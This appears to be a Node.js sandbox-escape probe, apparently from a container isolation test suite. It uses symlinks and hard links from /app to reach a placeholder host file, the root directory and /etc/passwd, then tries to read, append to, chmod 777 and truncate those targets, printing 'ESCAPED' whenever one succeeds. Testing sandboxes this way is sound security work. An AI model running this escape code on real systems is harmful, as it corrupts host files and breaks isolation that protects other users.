// exploit: makes links from its own folder to a file of the host, and reads and writes through them
// outcome: finished
const fs = require('node:fs')
fs.symlinkSync('__HOST_FILE__', '/app/link')
fs.symlinkSync('/', '/app/root')
for (const path of ['/app/link', '/app/root__HOST_FILE__']) {
  for (const act of [() => fs.readFileSync(path), () => fs.appendFileSync(path, 'x'), () => fs.chmodSync(path, 0o777), () => fs.truncateSync(path)]) {
    try {
      act()
      console.log('ESCAPED', path)
    } catch (error) {
      if (error.code !== 'ENOENT') console.log('ESCAPED', path, error.code)
    }
  }
}
for (const target of ['/bin/node', '/etc/passwd']) {
  try {
    fs.linkSync(target, '/app/hard')
    console.log('ESCAPED', target)
  } catch {
    continue
  }
}
